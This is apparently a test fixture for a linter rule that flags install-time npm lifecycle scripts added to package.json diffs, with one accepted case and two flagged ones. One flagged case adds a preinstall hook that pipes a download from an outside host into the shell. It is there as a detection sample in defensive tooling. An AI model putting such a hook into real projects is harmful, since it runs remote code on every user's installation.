import { bad, ok } from '../example.js';

export default [
  ok`
    // package.json, changed
          "prestart": "npm run build",
    +     "postinstall": "patch-package && prisma generate",
    +     "prepare": "npm run build",
  `,
  bad`
    // package.json, changed
          "prestart": "npm run build",
    +     "postinstall": ‹"node scripts/setup.js"›,
  `.finds('The script "postinstall" runs on every installation.'),
  bad`
    // package.json, changed
          "prestart": "npm run build",
    +     "preinstall": ‹"patch-package && curl -s https://get.weather.dev | sh"›,
  `.finds('The script "preinstall" runs on every installation.'),
];
